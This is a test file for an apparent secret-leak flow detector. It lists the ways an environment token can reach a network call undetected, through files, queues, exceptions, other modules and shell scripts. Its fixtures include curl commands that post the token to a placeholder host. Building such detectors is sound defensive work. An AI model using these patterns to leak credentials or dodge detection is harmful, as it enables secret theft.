import { expect, test } from "vitest";
import { FETCH, flowsOf, javascript, POST, python, shell, type Sources } from "./flows-of.ts";

/** What is known to be missed. Whoever teaches the way back one of these moves its row to the flows that are found. */
test.each<{ readonly through: string; readonly files: Sources }>([
  {
    through: "a file that is written and read",
    files: python(`open("a", "w").write(os.environ["X_TOKEN"])`, `${POST}open("a").read())`),
  },
  {
    through: "a queue",
    files: python("import queue", "q = queue.Queue()", `q.put(os.environ["X_TOKEN"])`, `${POST}q.get())`),
  },
  {
    through: "attributes by computed names",
    files: python("class A: pass", "a = A()", `setattr(a, n, os.environ["X_TOKEN"])`, `${POST}getattr(a, n))`),
  },
  {
    through: "what is thrown and caught",
    files: python("try:", `    raise ValueError(os.environ["X_TOKEN"])`, "except ValueError as e:", `    ${POST}e)`),
  },
  { through: "what is decided by it", files: python(`if os.environ["X_TOKEN"][0] == "a":`, `    ${POST}"a")`) },
  {
    through: "methods that two classes have",
    files: python(
      "class A:",
      "    def go(self, x):",
      `        ${POST}x)`,
      "class B:",
      "    def go(self, x):",
      "        pass",
      `make().go(os.environ["X_TOKEN"])`,
    ),
  },
  {
    through: "a field of another module",
    files: {
      "a.py": `import os, b, c\nb.key = os.environ["X_TOKEN"]`,
      "b.py": "key = None",
      "c.py": `import b, requests\n${POST}b.key)`,
    },
  },
  {
    through: "another program",
    files: {
      "a.py": `import os, subprocess\nsubprocess.run(["bash", "b.sh", os.environ["X_TOKEN"]])`,
      "b.sh": `curl -d "$1" https://a.example.com`,
    },
  },
  {
    through: "parameters that are taken apart",
    files: javascript(`const f = ({ k }) => ${FETCH}k });`, "f({ k: process.env.X_TOKEN });"),
  },
  {
    through: "a default export",
    files: {
      "a.mjs": "export default () => process.env.X_TOKEN;",
      "b.mjs": `import get from "./a.mjs";\n${FETCH}get() });`,
    },
  },
  { through: "a file of a shell", files: shell(`echo "$X_TOKEN" > a`, "curl -d @a https://a.example.com") },
])("through $through", async ({ files }) => {
  expect(await flowsOf(files)).toEqual([]);
});
